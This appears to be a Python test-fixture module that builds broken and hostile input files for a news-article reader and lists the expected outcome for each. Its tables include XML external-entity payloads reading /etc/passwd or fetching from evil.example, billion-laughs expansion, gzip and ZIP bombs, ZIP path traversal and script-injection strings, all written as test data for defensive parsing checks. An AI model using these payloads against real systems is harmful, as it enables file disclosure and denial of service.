"""Files that are broken, or made to do harm: what each is, its bytes, and what its user sees.

To add one, add a line to a table: ``LOST`` are files of which nothing is read, with the message; ``MENDED`` are read,
with the words that must stand in a text, those that must not, and the remark, if there is one.
"""

import gzip
import io
import json
import quopri
import struct
import zipfile
import zlib

import msgspec

FIRST = "The quay at Ostervik was shut on Friday after two boats hit its wall, the harbour master said."
SECOND = "Nobody was hurt, and both boats were towed away by a tug before the first ferry of the day came in."
THIRD = "The wall will be mended by divers next week, at a cost that the council has not put a figure to."
PARAGRAPHS = f"<p>{FIRST}</p><p>{SECOND}</p><p>{THIRD}</p>"


class Lost(msgspec.Struct, frozen=True):
    """A file of which nothing is read, and what is said of it."""

    kind: str
    name: str
    data: bytes
    message: str
    where: str = ""


class Mended(msgspec.Struct, frozen=True):
    """A file that is read: how many articles, words that stand in them and words that do not, and a remark on it."""

    kind: str
    name: str
    data: bytes
    shown: tuple[str, ...] = (FIRST,)
    unshown: tuple[str, ...] = ()
    remark: str | None = None
    count: int = 1
    where: str = ""


def make_page(body: str = PARAGRAPHS, head: str = "<title>Quay shut</title>") -> bytes:
    return f"<!doctype html><html><head><meta charset=utf-8>{head}</head><body>{body}</body></html>".encode()


def make_zip(*members: tuple[str, bytes], compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", compression) as archive:
        for name, data in members:
            archive.writestr(name, data)
    return stream.getvalue()


def make_encrypted_zip() -> bytes:
    data = bytearray(make_zip(("quay.txt", FIRST.encode()), compression=zipfile.ZIP_STORED))
    for signature, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        place = data.index(signature) + offset
        data[place] |= 1
    return bytes(data)


def make_gzip(data: bytes, times: int = 1) -> bytes:
    for _ in range(times):
        data = gzip.compress(data, mtime=0)
    return data


def make_lying_zip() -> bytes:
    """A ZIP that says its member has ten bytes, and has a million."""
    data = bytearray(make_zip(("quay.txt", b"quay " * 200_000)))
    place = data.index(b"PK\x01\x02") + 24
    data[place : place + 4] = struct.pack("<I", 10)
    return bytes(data)


def make_pdf(*lines: str, extra: bytes = b"") -> bytes:
    """A PDF of one page with these lines, written by hand."""
    words = "".join(f"({line}) Tj 0 -14 Td " for line in lines)
    return make_pages(f"BT /F1 11 Tf 50 750 Td {words} ET", extra=extra)


def make_pages(*streams: str, extra: bytes = b"") -> bytes:
    """A PDF of these pages, each given by the operators that draw it."""
    numbers = range(3, 3 + 2 * len(streams), 2)
    kids = " ".join(f"{number} 0 R" for number in numbers)
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        f"<< /Type /Pages /Kids [{kids}] /Count {len(streams)} >>".encode(),
    ]
    for number, drawn in zip(numbers, streams, strict=True):
        stream = drawn.encode("latin-1")
        objects += [
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents %d 0 R " % (number + 1)
            + b"/Resources << /Font << /F1 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >> >>",
            b"<< /Length %d >>\nstream\n" % len(stream) + stream + b"\nendstream",
        ]
    data = b"%PDF-1.4\n"
    places = []
    for number, content in enumerate(objects, 1):
        places.append(len(data))
        data += b"%d 0 obj\n" % number + content + b"\nendobj\n"
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    start = len(data)
    data += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1) + table
    return data + b"trailer\n<< /Size %d /Root 1 0 R %s >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects), extra, start)


def make_mail(headers: str, body: str | bytes) -> bytes:
    top = "From: Harbour Office <press@harbour.example>\nTo: desk@bell.example\nSubject: Quay shut\n"
    text = body if isinstance(body, bytes) else body.encode()
    return (top + headers).encode("utf-8", "surrogateescape") + b"\n\n" + text


def make_mhtml(markup: str) -> bytes:
    """A page as a browser saves it whole."""
    headers = (
        "From: <Saved by Blink>\nSnapshot-Content-Location: https://bell.example/quay\nSubject: Quay shut\n"
        'Date: Wed, 3 May 2023 10:30:00 -0000\nMIME-Version: 1.0\nContent-Type: multipart/related; boundary="b"\n\n'
    )
    page = quopri.encodestring(f"<!doctype html><html><body>{markup}</body></html>".encode()).decode()
    parts = (
        f'Content-Type: text/html; charset="utf-8"\nContent-Transfer-Encoding: quoted-printable\n\n{page}\n',
        "Content-Type: text/css\n\np { color: red }\n",
        "Content-Type: text/html\n\n<p>boom, said a frame of an advertisement.</p>\n",
    )
    return (headers + "".join(f"--b\n{part}" for part in parts) + "--b--\n").encode()


def make_feed(*texts: str) -> bytes:
    items = "".join(
        f"<item><title>Quay {number}</title><content:encoded><![CDATA[{text}]]></content:encoded></item>"
        for number, text in enumerate(texts, 1)
    )
    spaces = 'xmlns:content="http://purl.org/rss/1.0/modules/content/"'
    return (
        f'<?xml version="1.0"?><rss version="2.0" {spaces}><channel><title>Bell</title>{items}</channel></rss>'.encode()
    )


def make_nitf(body: str, doctype: str = "") -> bytes:
    head = "<body.head><hedline><hl1>Quay shut</hl1></hedline></body.head>"
    return f'<?xml version="1.0"?>{doctype}<nitf><body>{head}<body.content>{body}</body.content></body></nitf>'.encode()


def make_newsml(body: str) -> bytes:
    page = f'<html xmlns="http://www.w3.org/1999/xhtml"><body>{body}</body></html>'
    inline = f'<inlineXML contenttype="application/xhtml+xml">{page}</inlineXML>'
    head = "<contentMeta><headline>Quay closed</headline></contentMeta>"
    return f'<?xml version="1.0"?><newsItem>{head}<contentSet>{inline}</contentSet></newsItem>'.encode()


def make_json(field: str) -> bytes:
    """An article of which one field is "DEEP", to be put in place."""
    return json.dumps({"title": "Quay", "text": FIRST, field: "DEEP"}).replace('"DEEP"', "DEEP").encode()


def make_jsonld(field: str) -> str:
    node = json.dumps({"@type": "NewsArticle", "name": "Quay", field: "DEEP"}).replace('"DEEP"', "DEEP")
    return f'<script type="application/ld+json">{node}</script>'


def make_laughs() -> str:
    lines = ['<!ENTITY l0 "quay">']
    lines += [f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10)]
    return f"<!DOCTYPE nitf [{''.join(lines)}]>"


PICTURE = b"\x89PNG\r\n\x1a\n" + zlib.compress(bytes(5_000))
DIVS = "<div>" * 10_000
DEEP = b"[" * 500 + b"]" * 500
BROKEN_LINES = b"\n".join(
    b'{"title": "x", "text": "The quay was'
    if number == 17
    else json.dumps({"title": f"Q{number}", "text": FIRST}).encode()
    for number in range(1, 21)
)
ENTITY_FILE = '<!DOCTYPE nitf [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
ENTITY_NET = '<!DOCTYPE nitf [<!ENTITY x SYSTEM "http://evil.example/x">]>'
PARAMETER = '<!DOCTYPE nitf [<!ENTITY % x SYSTEM "http://evil.example/x.dtd"> %x;]>'
QUADRATIC = f'<!DOCTYPE nitf [<!ENTITY a "{"quay" * 5_000}">]>'
NEST = make_zip(("a.zip", make_zip(("b.zip", make_zip(("quay.txt", FIRST.encode()))))))

LOST = (
    Lost("empty page", "a.html", b"", "is empty, so there is nothing to compare"),
    Lost("page of white space", "a.html", b" \r\n\t ", "is empty, so there is nothing to compare"),
    Lost("page without words", "a.html", make_page(""), "holds no running text (only 0 words of it were found)"),
    Lost("picture named page", "a.html", PICTURE, "is a PNG picture, which can't be read"),
    Lost("picture named JSON", "a.json", PICTURE, "is a PNG picture, which can't be read"),
    Lost("noise named page", "a.html", bytes(range(256)) * 30, "is binary data, which can't be read"),
    Lost("page of 50 MB", "a.html", make_page("<p>quay</p>" * 4_600_000), "is larger than 5 MB, the most that is read"),
    Lost(
        "ten thousand divs", "a.html", make_page(f"{DIVS}{PARAGRAPHS}"), "elements inside each other, as no page does"
    ),
    Lost("page that its script fills", "a.html", make_page("<div id=app></div>"), "the page may fill itself by script"),
    Lost(
        "paywall opening",
        "a.html",
        make_page(f"<p>{FIRST}</p><p>Subscribe to continue reading</p>"),
        "words of an article",
    ),
    Lost(
        "malformed JSON",
        "a.json",
        b'{"title": "Quay", "text": ',
        "is malformed JSON: expecting value at line 1, column 27",
    ),
    Lost(
        "cut JSON list",
        "a.json",
        b'[{"title": "Quay", "text": "Shut."}, {"ti',
        "is malformed JSON: unterminated string",
    ),
    Lost("JSON depth bomb", "a.json", b"[" * 500_000, "is malformed JSON: it nests too deeply"),
    Lost("JSON depth bomb of objects", "a.json", b'{"a":' * 200_000, "is malformed JSON: it nests too deeply"),
    Lost("JSON of something else", "a.json", b'{"name": "x", "version": "1.0"}', "is JSON, but no list of articles"),
    Lost("JSON of numbers", "a.json", b"[[1, 2], [3, 4]]", "is JSON, but no list of articles"),
    Lost("empty JSON list", "a.json", b"[]", "is JSON, but no list of articles"),
    Lost(
        "JSON with a text that is a list",
        "a.json",
        b'[{"title": "Q", "text": ["x"]}]',
        "is JSON, but no list of articles",
    ),
    Lost("JSON whose markup shows nothing", "a.json", b'{"title": "Q", "text": "<p hidden>x</p>"}', "shows no words"),
    Lost("billion laughs", "a.xml", make_nitf("<p>&l9;</p>", make_laughs()), "declares an entity of its own ('l0')"),
    Lost(
        "quadratic blow-up",
        "a.xml",
        make_nitf("<p>" + "&a;" * 5_000 + "</p>", QUADRATIC),
        "declares an entity of its own",
    ),
    Lost("entity of a file", "a.xml", make_nitf("<p>&x;</p>", ENTITY_FILE), "declares an entity of its own ('x')"),
    Lost("entity of the network", "a.xml", make_nitf("<p>&x;</p>", ENTITY_NET), "declares an entity of its own ('x')"),
    Lost("parameter entity", "a.xml", make_nitf("<p>x</p>", PARAMETER), "declares an entity of its own ('x')"),
    Lost(
        "entities in UTF-16",
        "a.xml",
        make_nitf("<p>&x;</p>", ENTITY_FILE).decode().encode("utf-16"),
        "declares an entity",
    ),
    Lost(
        "XML of something else",
        "a.xml",
        b"<?xml version='1.0'?><invoice/>",
        "whose first element, 'invoice', is of no format",
    ),
    Lost("XML that is cut", "a.xml", make_nitf(f"<p>{FIRST}</p>")[:150], "is NITF that is broken or cut"),
    Lost("XML without an element", "a.xml", b"<?xml version='1.0'?>", "is XML that can't be parsed"),
    Lost(
        "XML nested ten thousand deep", "a.xml", make_nitf("<block>" * 10_000 + FIRST), "is NITF that is broken or cut"
    ),
    Lost("NITF without a body", "a.xml", b"<nitf><head/></nitf>", "is NITF without the text of a report"),
    Lost(
        "feed of summaries", "a.rss", make_feed(""), "is a feed without the text of a report (it may only link to it)"
    ),
    Lost("feed cut in its first item", "a.rss", make_feed(f"<p>{FIRST}</p>")[:230], "is a feed that is broken or cut"),
    Lost("cut gzip", "a.txt.gz", make_gzip(FIRST.encode())[:40], "is a broken or cut gzip file"),
    Lost("gzip of noise", "a.gz", b"\x1f\x8b\x08" + bytes(range(200)), "is a broken or cut gzip file"),
    Lost("gzip bomb", "a.txt.gz", make_gzip(bytes(40_000_000)), "is larger than 5 MB, the most that is read of it"),
    Lost(
        "gzip bomb that calls itself JSON",
        "a.json.gz",
        make_gzip(b'{"a": "' + b" " * 90_000_000),
        "unpacks to more than 200",
    ),
    Lost("gzip in gzip in gzip", "a.gz", make_gzip(FIRST.encode(), 3), "is an archive inside 2 others"),
    Lost("cut ZIP", "a.zip", make_zip(("quay.txt", FIRST.encode()))[:60], "is a broken or cut ZIP archive"),
    Lost("ZIP of nothing", "a.zip", make_zip(), "holds no file that may be a report"),
    Lost("ZIP of pictures", "a.zip", make_zip(("a.png", PICTURE)), "holds no file that may be a report"),
    Lost("ZIP that is encrypted", "a.zip", make_encrypted_zip(), "is encrypted; unpack the archive", "/quay.txt"),
    Lost("ZIP bomb", "a.zip", make_zip(("quay.txt", bytes(30_000_000))), "is larger than 5 MB", "/quay.txt"),
    Lost("ZIP that lies of its size", "a.zip", make_lying_zip(), "is broken in its archive", "/quay.txt"),
    Lost("ZIPs in each other", "a.zip", NEST, "is an archive inside 2 others", "/a.zip/b.zip"),
    Lost("office file", "a.docx", make_zip(("[Content_Types].xml", b"<x/>")), "is an office file or an e-book"),
    Lost("RAR archive", "a.rar", b"Rar!\x1a\x07\x00rest", "is a RAR archive, which can't be read"),
    Lost("tar archive", "a.tar", bytes(257) + b"ustar\x0000" + bytes(248), "is a tar archive, which can't be read"),
    Lost(
        "WARC archive", "a.warc", b"WARC/1.0\r\nWARC-Type: response\r\n\r\n", "is a WARC archive, which can't be read"
    ),
    Lost("PDF of nothing", "a.pdf", b"%PDF-1.7\n", "is a broken PDF"),
    Lost("PDF of noise", "a.pdf", b"%PDF-1.7\n" + bytes(range(256)) * 20, "is a broken PDF"),
    Lost("PDF without text", "a.pdf", make_pdf(), "holds no text, but perhaps pictures of it"),
    Lost("PDF that is encrypted", "a.pdf", make_pdf(FIRST, extra=b"/Encrypt << /Filter /Standard /V 9 >>"), "PDF"),
    Lost(
        "mail without text",
        "a.eml",
        make_mail("Content-Type: image/png", b"\x89PNG"),
        "is mail without a text of its own",
    ),
    Lost(
        "mail whose parts are missing",
        "a.eml",
        make_mail("Content-Type: multipart/mixed; boundary=x", "--x--"),
        "is mail without",
    ),
)

MENDED = (
    *(
        Mended(
            f"references to surrogates in {kind}",
            "a.xml",
            data.replace(b"shut", b"sh" + reference + b"ut"),
            shown=("sh\ufffdut on Friday",),
            unshown=("sh\ud800ut",),
            remark="refers by number to what is no character; each became U+FFFD",
        )
        for kind, data, reference in (
            ("NITF", make_nitf(PARAGRAPHS), b"&#xD800;"),
            ("NITF, decimal", make_nitf(PARAGRAPHS), b"&#57343;"),
            ("NITF, unclosed", make_nitf(PARAGRAPHS), b"&#xDFFF"),
            ("NITF, padded", make_nitf(PARAGRAPHS), b"&#X000000000000dbff;"),
            ("NITF, no code point", make_nitf(PARAGRAPHS), b"&#x110000;"),
            ("NITF, thousands of digits", make_nitf(PARAGRAPHS), b"&#" + b"9" * 5_000 + b";"),
            ("NITF, control", make_nitf(PARAGRAPHS), b"&#1;"),
            ("feed", make_feed(PARAGRAPHS), b"&#xD83D;&#xDE00;"[:8]),
            (
                "feed, element",
                make_feed("").replace(b"</content:encoded>", PARAGRAPHS.encode() + b"</content:encoded>"),
                b"&#xDC00;",
            ),
            ("NewsML-G2", make_newsml(PARAGRAPHS), b"&#xD800;"),
        )
    ),
    *(
        Mended(
            f"encoding stated twice in {kind}",
            "a.xml",
            data,
        )
        for kind, data in (
            ("NITF", make_nitf(PARAGRAPHS).replace(b"?>", b" encoding='utf-8' encoding='utf-16'?>", 1)),
            ("NewsML-G2", make_newsml(PARAGRAPHS).replace(b"?>", b" encoding='utf-8' encoding='latin-1'?>", 1)),
            ("feed", make_feed(PARAGRAPHS).replace(b"?>", b" encoding='utf-16'?>", 1)),
        )
    ),
    *(
        Mended(f"deep JSON as {kind}", "a.json", data.replace(b"DEEP", DEEP), remark="nests values too deeply")
        for kind, data in (
            ("author", make_json("author")),
            ("authors", make_json("authors")),
            ("publisher", make_json("publisher")),
            ("source", make_json("source")),
            ("bodies", make_json("bodies")),
            ("headlines", make_json("headlines")),
            ("infosources", make_json("infosources")),
            ("list in a list", b"[" + make_json("x") + b"]"),
            ("furniture", make_json("furniture").replace(b'"title"', b'"siglum": "A", "text_sha256": "0", "title"')),
        )
    ),
    *(
        Mended(f"deep JSON-LD as {name}", "a.html", make_page(head=make_jsonld(name).replace("DEEP", DEEP.decode())))
        for name in ("author", "publisher", "isAccessibleForFree", "@graph", "mainEntity", "headline", "articleBody")
    ),
    *(
        Mended(
            f"date {date!r}",
            "a.json",
            json.dumps({"title": "Q", "text": FIRST, "date": date}).encode(),
            remark="which is not understood; it is read without a date",
        )
        for date in (
            "0001-01-01",
            "0001-01-01T00:00:01+23:59",
            "9999-12-31T23:59:59-23:59",
            "99999999999999",
            "20230503T103000+9999",
            "2023-05-03T10:30:00+24:00",
            "Wed, 03 May 2023 10:30:00 +9959",
            "Wed, 99 May 99999 99:99:99 GMT",
            "31 December 9999",
        )
    ),
    Mended("headers that nest", "a.eml", b"X: 1\nCc: " + b"(" * 2_000 + b"\n" + make_mail("", FIRST)),
    Mended("sender that nests", "a.eml", make_mail("", FIRST).replace(b"press@", b"(" * 2_000 + b"press@")),
    Mended(
        "script in the headline",
        "a.html",
        make_page(f"<h1>Quay <script>boom()</script>shut</h1>{PARAGRAPHS}"),
        unshown=("boom",),
    ),
    Mended(
        "script in JSON-LD's headline",
        "a.html",
        make_page(
            head='<script type="application/ld+json">'
            '{"@type":"NewsArticle","headline":"Quay <img src=x onerror=boom()>"}</script>'
        ),
        shown=(FIRST, "Quay <img src=x onerror=boom()>"),
    ),
    Mended(
        "event handlers",
        "a.html",
        make_page(PARAGRAPHS.replace("<p>", "<p onclick='boom()' onmouseover=boom()>")),
        unshown=("boom",),
    ),
    Mended(
        "script between paragraphs",
        "a.html",
        make_page(PARAGRAPHS.replace("</p><p>", "</p><script>boom('quay')</script><p>")),
        shown=(FIRST, SECOND),
        unshown=("boom",),
    ),
    Mended(
        "style between paragraphs",
        "a.html",
        make_page(f"<style>p::before{{content:'boom'}}</style>{PARAGRAPHS}"),
        unshown=("boom",),
    ),
    Mended(
        "script in an address",
        "a.html",
        make_page(head="<link rel=canonical href='javascript:boom()'><title>Quay</title>"),
        unshown=("boom",),
    ),
    Mended(
        "frame with a document",
        "a.html",
        make_page(f"<iframe srcdoc='<p>boom</p>'></iframe>{PARAGRAPHS}"),
        unshown=("boom",),
    ),
    Mended(
        "comment with a script",
        "a.html",
        make_page(f"<!-- <p>boom</p> -->{PARAGRAPHS}<!--[if IE]><p>boom</p><![endif]-->"),
        unshown=("boom",),
    ),
    Mended(
        "JSON-LD that is broken",
        "a.html",
        make_page(head='<script type="application/ld+json">{"@type": </script><title>Quay</title>'),
    ),
    Mended(
        "JSON-LD that is a bomb",
        "a.html",
        make_page(head=f'<script type="application/ld+json">{"[" * 100_000}</script><title>Q</title>'),
    ),
    Mended(
        "JSON-LD that hides a text",
        "a.html",
        make_page(
            head='<script type="application/ld+json">{"@type":"NewsArticle","articleBody":"boom '
            + "word " * 90
            + '"}</script>'
        ),
        unshown=("boom",),
    ),
    Mended(
        "broken nesting",
        "a.html",
        make_page(f"<div><p>{FIRST}<div></p></span><b><i>{SECOND}</b></i><p>{THIRD}</table>"),
        shown=(FIRST, SECOND, THIRD),
    ),
    Mended(
        "unclosed everything",
        "a.html",
        f"<html><body><article><p>{FIRST}<p>{SECOND}<p>{THIRD}".encode(),
        shown=(FIRST, SECOND, THIRD),
    ),
    Mended("three hundred divs", "a.html", make_page("<div>" * 300 + PARAGRAPHS), shown=(FIRST, SECOND, THIRD)),
    Mended("null bytes in a page", "a.html", make_page(PARAGRAPHS.replace("shut", "sh\x00ut")), shown=("sh\ufffdut",)),
    Mended(
        "controls in a page", "a.html", make_page(PARAGRAPHS.replace("shut", "sh\x07\x1but")), shown=("shut on Friday",)
    ),
    Mended(
        "references to nothing",
        "a.html",
        make_page(PARAGRAPHS.replace("shut", "sh&#0;&#xD800;&#x110000;&bogus;ut")),
        shown=("ut on Friday",),
    ),
    Mended(
        "bidi override in a page",
        "a.html",
        make_page(PARAGRAPHS.replace("shut", "\u202eshut\u202c")),
        shown=("\u202eshut\u202c",),
    ),
    Mended("page named text", "a.txt", make_page(), unshown=("<p>",)),
    Mended("text named page", "a.html", FIRST.encode()),
    Mended("page in UTF-16", "a.html", make_page().decode().encode("utf-16")),
    Mended(
        "page in UTF-16 without a mark",
        "a.html",
        make_page().decode().encode("utf-16-le"),
        remark="utf-16-le was assumed",
    ),
    Mended(
        "page of another charset than it says",
        "a.html",
        make_page(PARAGRAPHS.replace("Nobody", "“Nobody” at the Café")).decode().encode("windows-1252"),
        shown=("“Nobody” at the Café",),
        remark="states that it is UTF-8, but is not; windows-1252 was assumed",
    ),
    Mended("charset that is none", "a.html", make_page().replace(b"utf-8", b"rot13")),
    Mended("charset that is a bomb", "a.html", make_page().replace(b"utf-8", b"x" * 5_000)),
    Mended(
        "bytes that are no UTF-8",
        "a.html",
        make_page(PARAGRAPHS.replace("Nobody", "Żółć źdźbło")).replace(b"shut", b"sh\xffut"),
        shown=("sh\ufffdut",),
        remark="holds bytes that are no utf-8",
    ),
    Mended("headline of a megabyte", "a.html", make_page(head=f"<title>{'quay ' * 200_000}</title>")),
    Mended(
        "million attributes",
        "a.html",
        make_page(f"<div {' '.join(f'a{n}=x' for n in range(100_000))}>{PARAGRAPHS}</div>"),
    ),
    Mended(
        "fifty thousand tags",
        "a.html",
        make_page(PARAGRAPHS + "<b></b>" * 50_000),
        remark="has more than 20,000 elements",
    ),
    Mended(
        "malformed line in JSON Lines",
        "a.jsonl",
        BROKEN_LINES,
        count=19,
        remark="is malformed JSON: unterminated string starting at column 24",
        where=":17",
    ),
    Mended(
        "NaN in JSON",
        "a.json",
        b'{"title": "Q", "text": "%s", "score": NaN}' % FIRST.encode(),
        remark="holds NaN, which is no JSON",
    ),
    Mended(
        "huge numbers in JSON",
        "a.json",
        b'{"title": "Q", "text": "%s", "n": %s, "m": 1e999}' % (FIRST.encode(), b"9" * 50_000),
    ),
    Mended(
        "names given twice in JSON",
        "a.json",
        b'{"title": "Q", "text": "boom", "text": "%s"}' % FIRST.encode(),
        unshown=("boom",),
        remark="gives 'text' twice in one object",
    ),
    Mended(
        "lone surrogates in JSON",
        "a.json",
        b'{"title": "Q\\ud800", "text": "%s \\udfff"}' % FIRST.encode(),
        shown=(FIRST, "\ufffd"),
        remark="holds lone surrogates",
    ),
    Mended("null characters in JSON", "a.json", b'{"title": "Q", "text": "%s \\u0000"}' % FIRST.encode()),
    Mended(
        "script in JSON",
        "a.json",
        b'{"title": "<script>boom()</script>", "text": "<p>%s</p><script>boom()</script>"}' % FIRST.encode(),
        shown=(FIRST, "<script>boom()</script>\n\n"),
    ),
    Mended(
        "date that is none in JSON",
        "a.json",
        b'{"title": "Q", "text": "%s", "date": "soon"}' % FIRST.encode(),
        remark="gives the date 'soon', which is not understood",
    ),
    Mended(
        "item that is no article in JSON",
        "a.json",
        b'{"articles": [{"title": "Q", "text": "%s"}, {"title": "x"}, 5]}' % FIRST.encode(),
        remark="articles[1] has no text",
    ),
    Mended("JSON with a byte order mark", "a.json", b'\xef\xbb\xbf{"title": "Q", "text": "%s"}' % FIRST.encode()),
    Mended("JSON in UTF-16", "a.json", f'{{"title": "Q", "text": "{FIRST}"}}'.encode("utf-16")),
    Mended(
        "doctype of the network",
        "a.xml",
        make_nitf(f"<p>{FIRST}</p>", '<!DOCTYPE nitf SYSTEM "http://evil.example/nitf.dtd">'),
    ),
    Mended(
        "doctype of a file",
        "a.xml",
        make_nitf(f"<p>{FIRST}</p>", '<!DOCTYPE nitf SYSTEM "file:///etc/passwd" [<!ELEMENT p ANY>]>'),
    ),
    Mended(
        "names of HTML in XML",
        "a.xml",
        make_nitf(f"<p>{FIRST}&nbsp;&mdash;&bogus; end</p>"),
        shown=(FIRST, "—&bogus; end"),
    ),
    Mended("script in a feed", "a.rss", make_feed(f"<p>{FIRST}</p><script>boom()</script>"), unshown=("boom",)),
    Mended(
        "feed that is cut",
        "a.rss",
        make_feed(f"<p>{FIRST}</p>", f"<p>{SECOND}</p>")[:-90],
        unshown=(SECOND[-20:],),
        remark="is broken or cut",
    ),
    Mended(
        "ZIP that would leave its folder",
        "a.zip",
        make_zip(("../../../etc/quay.txt", FIRST.encode()), ("/quay/b.txt", SECOND.encode())),
        shown=(FIRST, SECOND),
        count=2,
    ),
    Mended("ZIP with a name that steers", "a.zip", make_zip(("q\x1b[31m\u202eay.txt", FIRST.encode()))),
    Mended(
        "ZIP with one bad file",
        "a.zip",
        make_zip(("a.txt", FIRST.encode()), ("b.json", b"{")),
        remark="is malformed JSON",
        where="/b.json",
    ),
    Mended("ZIP of gzip", "a.zip", make_zip(("quay.txt.gz", make_gzip(FIRST.encode())))),
    Mended("gzip of a page", "a.html.gz", make_gzip(make_page())),
    Mended(
        "PDF with a broken table",
        "a.pdf",
        make_pdf(FIRST, SECOND).replace(b"startxref\n", b"startxref\n9"),
        shown=("was shut on Friday",),
    ),
    Mended(
        "PDF with rubbish after it", "a.pdf", make_pdf(FIRST, SECOND) + b"\x00" * 3_000, shown=("was shut on Friday",)
    ),
    Mended(
        "mail of HTML only",
        "a.eml",
        make_mail("Content-Type: text/html; charset=utf-8", f"<p>{FIRST}</p><script>boom()</script>"),
        unshown=("boom", "<p>"),
    ),
    Mended(
        "mail with a wrong charset",
        "a.eml",
        make_mail("Content-Type: text/plain; charset=utf-8", f"“Quay” {FIRST}".encode("windows-1252")),
        shown=("“Quay” The quay",),
        remark="states that it is UTF-8, but is not",
    ),
    Mended("mail with a charset that is none", "a.eml", make_mail("Content-Type: text/plain; charset=klingon", FIRST)),
    Mended(
        "mail with broken MIME",
        "a.eml",
        make_mail('Content-Type: multipart/mixed; boundary="x', f"--x\nContent-Type: text/plain\n\n{FIRST}\n"),
        shown=("The quay at Ostervik",),
    ),
    Mended(
        "mail with an attachment",
        "a.eml",
        make_mail(
            "Content-Type: multipart/mixed; boundary=x",
            f"--x\nContent-Type: text/plain\n\n{FIRST}\n--x\nContent-Type: application/pdf\n"
            'Content-Disposition: attachment; filename="../q\x1b.pdf"\n\n%PDF\n--x--\n',
        ),
        remark="has attachments, which are not read: ",
    ),
    Mended(
        "mail with broken headers",
        "a.eml",
        make_mail("Date: soon\nContent-Transfer-Encoding: klingon\nX: =?utf-8?b?////?=", FIRST),
        remark="gives the date 'soon', which is not understood",
    ),
    Mended(
        "mail in base64 that is cut",
        "a.eml",
        make_mail(
            "Content-Type: text/plain\nContent-Transfer-Encoding: base64",
            "VGhlIHF1YXkgYXQgT3N0ZXJ2aWsgd2FzIHNodXQgb24gRnJpZGF5Lg=\nx",
        ),
        shown=("The quay at Ostervik was shut on Friday",),
    ),
)
